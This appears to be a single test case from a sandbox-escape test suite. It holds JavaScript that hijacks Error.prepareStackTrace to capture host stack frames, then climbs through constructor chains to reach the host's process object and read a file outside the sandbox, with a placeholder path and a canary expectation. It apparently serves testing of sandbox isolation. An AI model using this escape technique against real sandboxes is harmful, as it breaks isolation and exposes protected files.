// attack {"class":"host realm","attempt":"the frames of the kernel's own functions, through prepareStackTrace","effect":"canary","ends":["ok"],"value":"","bare":true}
const frames = [];
const hook = (error, sites) => {
  for (const site of sites) for (const read of ["getThis", "getFunction", "getEvalOrigin"]) frames.push(site[read]?.());
  return "";
};
const hosts = [globalThis, this.constructor.constructor("return globalThis")()];
for (const realm of hosts) for (const type of ["Error", "TypeError", "RangeError", "SyntaxError"]) {
  try { realm[type].prepareStackTrace = hook; } catch {}
  try { Object.defineProperty(realm[type], "prepareStackTrace", { value: hook }); } catch {}
}
for (const realm of hosts) for (const act of [() => readFile("{{outside.file}}"), () => readFile(1), () => callTool("echo", { get a() { throw new realm.Error("x"); } }), () => { throw new realm.Error("x"); }]) {
  try { act(); } catch (error) { error.stack; }
}
let seen = "";
for (const frame of frames) {
  try { seen += frame.constructor.constructor("return process")().getBuiltinModule("fs").readFileSync("{{outside.file}}", "utf8"); } catch {}
}
seen;
